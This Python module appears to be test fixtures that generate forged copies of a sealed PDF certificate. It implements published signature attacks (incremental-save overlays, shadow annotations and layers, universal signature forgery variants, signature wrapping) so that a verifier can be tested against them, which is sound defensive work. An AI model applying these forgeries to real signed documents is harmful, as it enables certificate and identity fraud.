"""Files made from a genuine sealed certificate by the published attacks on PDF signatures.

What a forger wants shown is always the same: dark strokes through the holder's name, `FORGED`.

Source: Mladenov et al., "1 Trillion Dollar Refund", CCS 2019 (universal signature forgery,
incremental saving, signature wrapping); Mainka et al., "Shadow Attacks", NDSS 2021; Rohlmann et
al., "Breaking the Specification: PDF Certification", IEEE S&P 2021.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from io import BytesIO
from typing import Any

import pikepdf
from pyhanko.pdf_utils import generic as pyhanko_generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

from templates.page_file import Own
from tests.keys.sealed_pdf import sealed_range

generic: Any = pyhanko_generic  # its constructors have no types
Writer = Any  # pyHanko's incremental writer, as little typed

FORGED = b"\nq 0 0 0 rg 175 533 38 1.4 re f 182 529 1.4 14 re f 200 529 1.4 14 re f Q\n"
NAME_BOX = (170, 527, 230, 545)


# Incremental saving


def appended(pdf: bytes, change: Callable[[Writer], None]) -> bytes:
    """The file with a revision appended by the book."""
    writer: Writer = IncrementalPdfFileWriter(BytesIO(pdf), strict=False)
    change(writer)
    output = BytesIO()
    writer.write(output)
    return output.getvalue()


def draw_over(writer: Writer) -> None:
    """Put further content on the page."""
    stream = generic.StreamObject(stream_data=FORGED)
    page = writer.root["/Pages"]["/Kids"][0]
    contents = [page.raw_get("/Contents"), writer.add_object(stream)]
    page["/Contents"] = generic.ArrayObject(contents)
    writer.update_container(page)


def draw_over_from_object_stream(writer: Writer) -> None:
    """Put further content on the page, named in an object stream."""
    stream = writer.add_object(generic.StreamObject(stream_data=FORGED))
    page = writer.root["/Pages"]["/Kids"][0]
    contents = generic.ArrayObject([page.raw_get("/Contents"), stream])
    page["/Contents"] = writer.add_object(contents, obj_stream=writer.prepare_object_stream())
    writer.update_container(page)


def replace_content(writer: Writer) -> None:
    """Write the page's own content anew, under its own number."""
    page = writer.root["/Pages"]["/Kids"][0]
    content = page["/Contents"].data
    page["/Contents"] = writer.add_object(generic.StreamObject(stream_data=content + FORGED))
    writer.update_container(page)


def annotate(writer: Writer) -> None:
    """Evil annotation: a free text whose appearance lies over the name."""
    _add_annotation(writer, {"/Subtype": pdf_name("/FreeText"), "/DA": text("/Helv 12 Tf")})


def sneak_signature(writer: Writer) -> None:
    """Sneaky signature: the field of a further signature, whose appearance lies over the name."""
    field = {"/Subtype": pdf_name("/Widget"), "/FT": pdf_name("/Sig"), "/T": text("Second")}
    reference = _add_annotation(writer, field)
    signature = {"/Type": pdf_name("/Sig"), "/Filter": pdf_name("/Adobe.PPKLite")}
    value = writer.add_object(_dictionary(signature))
    writer.get_object(reference.reference)["/V"] = value
    form = writer.root["/AcroForm"]
    form["/Fields"].append(reference)
    writer.update_container(form)


def add_script(writer: Writer) -> None:
    """A script that runs when the file is opened."""
    action = {"/S": pdf_name("/JavaScript"), "/JS": text("app.alert('x')")}
    writer.root["/OpenAction"] = writer.add_object(_dictionary(action))
    writer.update_root()


def add_layer(writer: Writer) -> None:
    """A layer over the name that can be switched."""
    group = writer.add_object(_dictionary({"/Type": pdf_name("/OCG"), "/Name": text("x")}))
    order = generic.ArrayObject([group])
    writer.root["/OCProperties"] = _dictionary(
        {"/OCGs": order, "/D": _dictionary({"/ON": generic.ArrayObject([group])})}
    )
    writer.update_root()
    page = writer.root["/Pages"]["/Kids"][0]
    page["/Resources"]["/Properties"] = _dictionary({"/L": group})
    stream = generic.StreamObject(stream_data=b"/OC /L BDC" + FORGED + b"EMC")
    page["/Contents"] = generic.ArrayObject([page.raw_get("/Contents"), writer.add_object(stream)])
    writer.update_container(page)


def swap_file(writer: Writer) -> None:
    """Another record in the place of the embedded one."""
    names = writer.root["/Names"]["/EmbeddedFiles"]["/Names"]
    place = next(at for at in range(0, len(names), 2) if str(names[at]) == "record.cose")
    specification = names[place + 1]
    stream = generic.StreamObject(stream_data=b"another record")
    another = writer.add_object(stream)
    specification["/EF"]["/F"] = specification["/EF"]["/UF"] = another
    writer.update_container(specification)


def replace_portrait(writer: Writer) -> None:
    """Another portrait in the place of the holder's."""
    page = writer.root["/Pages"]["/Kids"][0]
    images = page["/Resources"]["/XObject"]
    samples = bytes(range(256)) * 12
    image = generic.StreamObject(
        dict_data={
            pdf_name("/Type"): pdf_name("/XObject"),
            pdf_name("/Subtype"): pdf_name("/Image"),
            pdf_name("/Width"): generic.NumberObject(32),
            pdf_name("/Height"): generic.NumberObject(32),
            pdf_name("/ColorSpace"): pdf_name("/DeviceRGB"),
            pdf_name("/BitsPerComponent"): generic.NumberObject(8),
        },
        stream_data=samples,
    )
    photo = next(
        name
        for name in images
        if images[name].get("/Height") != 49 and images[name].get("/Subtype") == "/Image"
    )
    images[photo] = writer.add_object(image)
    writer.update_container(images)


def _add_annotation(writer: Writer, entries: dict[str, Any]) -> Any:
    left, bottom, right, top = NAME_BOX
    box = generic.ArrayObject([generic.NumberObject(side) for side in NAME_BOX])
    appearance = generic.StreamObject(
        dict_data={
            pdf_name("/Type"): pdf_name("/XObject"),
            pdf_name("/Subtype"): pdf_name("/Form"),
            pdf_name("/BBox"): box,
        },
        stream_data=FORGED,
    )
    assert left < right
    assert bottom < top
    drawn = _dictionary({"/N": writer.add_object(appearance)})
    common = {"/Type": pdf_name("/Annot"), "/Rect": box, "/F": generic.NumberObject(4)}
    reference = writer.add_object(_dictionary({**common, "/AP": drawn, **entries}))
    page = writer.root["/Pages"]["/Kids"][0]
    page["/Annots"] = generic.ArrayObject([*_raw_items(page["/Annots"]), reference])
    writer.update_container(page)
    return reference


def _raw_items(items: Any) -> list[Any]:
    return [items.raw_get(index) for index in range(len(items))]


def _dictionary(entries: dict[str, Any]) -> generic.DictionaryObject:
    return generic.DictionaryObject({pdf_name(name): value for name, value in entries.items()})


def text(text: str) -> generic.TextStringObject:
    return generic.TextStringObject(text)


def with_empty_table(pdf: bytes) -> bytes:
    """An empty cross-reference table appended, which some readers take for no change."""
    last = re.findall(rb"startxref\s+(\d+)", pdf)[-1]
    root = re.findall(rb"/Root \d+ 0 R", pdf)[-1]
    size = re.findall(rb"/Size (\d+)", pdf)[-1]
    return pdf + b"xref\n0 0\ntrailer\n<</Size %b%b/Prev %b>>\nstartxref\n%d\n%%%%EOF\n" % (
        size, root, last, len(pdf),
    )  # fmt: skip


def with_bare_objects(pdf: bytes) -> bytes:
    """Objects appended without a table, which readers find that mend a file."""
    return pdf + b"%d 0 obj\n<</Length %d>>stream\n%bendstream\nendobj\n" % (
        Own.CONTENT, len(FORGED), FORGED,
    )  # fmt: skip


def with_copied_signature(pdf: bytes) -> bytes:
    """An update that brings the signature's object along once more."""

    def copy(writer: Writer) -> None:
        draw_over(writer)
        field = writer.root["/AcroForm"]["/Fields"][0]
        writer.mark_update(field.raw_get("/V").reference)

    return appended(pdf, copy)


# Universal signature forgery: the name is forged, and the signature put out of its readers' reach


def forged_signature(pdf: bytes, kind: str) -> bytes:
    """The file, its seal's entries spoilt in one of the ways that made readers say yes."""
    start, end = sealed_range(pdf)
    name = pdf.index(b"/Contents<", start - 20)
    byte_range = re.search(rb"/ByteRange\[[^\]]*\]", pdf)
    assert byte_range is not None
    at, old = byte_range.start(), byte_range[0]
    first, second = pdf[:start], pdf[end:]
    hole = end - start

    def ranged(new: bytes) -> bytes:
        return pdf[:at] + new.ljust(len(old)) + pdf[at + len(old) :]

    match kind:
        case "no contents":
            return pdf[:name] + b"/Xontents" + pdf[name + 9 :]
        case "null contents":
            return first + b" null".ljust(hole) + second
        case "empty contents":
            return first + b"<>".ljust(hole) + second
        case "zero contents":
            return first + b"<" + b"0" * (hole - 2) + b">" + second
        case "no range":
            return pdf[:at] + b"/XyteRange" + pdf[at + 10 :]
        case "null range":
            return ranged(b"/ByteRange null")
        case "zero range":
            return ranged(b"/ByteRange[0 0 0 0]")
        case "negative range":
            return ranged(b"/ByteRange[0 %d %d -9]" % (start, end))
        case "short range":
            return ranged(b"/ByteRange[0 %d]" % start)
        case "range of the file's head":
            return ranged(b"/ByteRange[0 9 9 9]")
        case _:
            raise ValueError(kind)


FORGERIES = (
    "no contents",
    "null contents",
    "empty contents",
    "zero contents",
    "no range",
    "null range",
    "zero range",
    "negative range",
    "short range",
    "range of the file's head",
)


# Signature wrapping


def wrapped(pdf: bytes) -> bytes:
    """The sealed end of the file moved back, a table of the forger's own put in between.

    The entry startxref stays as it was sealed; what stands at that place is the forger's now: a
    table that leads to another content, and to a copy of the signature with another range, over
    which the digest is what was signed.
    """
    start, end = sealed_range(pdf)
    (at,) = (int(place) for place in re.findall(rb"startxref\s+(\d+)", pdf))
    rest = pdf[end:]
    table = pdf[at : pdf.index(b"endobj", at)] + b"endobj\n"
    with pikepdf.open(BytesIO(pdf)) as document:
        drawn = document.pages[0].Contents.read_bytes() + FORGED
    content = b"%d 0 obj\n<</Length %d>>stream\n%b\nendstream\nendobj\n" % (
        Own.CONTENT, len(drawn), drawn,
    )  # fmt: skip
    found = re.search(rb"(\d+) 0 obj\n<</Type/Sig.*?/ByteRange\[0 ", pdf, re.DOTALL)
    assert found is not None
    size = end - start
    gap_before = b" " * (at - end)
    signature = found[0] + b"%010d %010d %010d]/Contents"
    length = len(signature % (0, 0, 0)) + size + len(b">>\nendobj\n")
    gap_length = len(gap_before) + len(table) + len(content) + length
    signature = signature % (start, end + gap_length, len(rest))
    copy = signature + pdf[start:end] + b">>\nendobj\n"
    place = at + len(table)
    rows = table.index(b"stream\n") + len(b"stream\n")
    for key, moved in ((int(Own.CONTENT), place), (int(found[1]), place + len(content))):
        row = rows + 6 * key
        table = table[:row] + b"\1" + moved.to_bytes(3, "big") + b"\0\0" + table[row + 6 :]
    gap = gap_before + table + content + copy
    assert len(gap) == gap_length
    return pdf[:end] + gap + rest
